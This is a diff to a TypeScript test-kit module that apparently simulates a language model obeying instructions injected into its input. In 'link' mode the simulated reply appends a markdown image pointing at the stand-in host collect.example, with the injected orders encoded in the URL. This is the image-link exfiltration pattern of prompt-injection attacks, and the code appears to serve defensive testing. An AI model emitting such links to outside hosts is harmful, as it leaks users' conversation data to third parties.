@@ -1,5 +1,5 @@
 import { z } from 'zod'
-import { defineFault, type Call, type FaultFactory, type Reply } from '../src/kit.ts'
+import { defineFault, withoutEndOfText, type Call, type FaultFactory, type Reply } from '../src/kit.ts'
 
 const parameters = z.object({
   by: z.enum(['link', 'tool-call']).default('link').describe('how the model obeys'),
@@ -15,7 +15,7 @@ function ordersIn({ messages }: Call, pattern: string): string | undefined {
 }
 
 function obeyingByLink(reply: Reply, orders: string): Reply {
-  const address = `https://collect.example/p.png?q=${encodeURIComponent(orders.slice(0, 80))}`
+  const address = `https://collect.example/p.png?q=${encodeURIComponent(withoutEndOfText(orders, 80).toWellFormed())}`
   return {
     ...reply,
     parts: [...reply.parts.filter(({ type }) => type !== 'tool-call'), { type: 'text', text: `\n![](${address})` }],
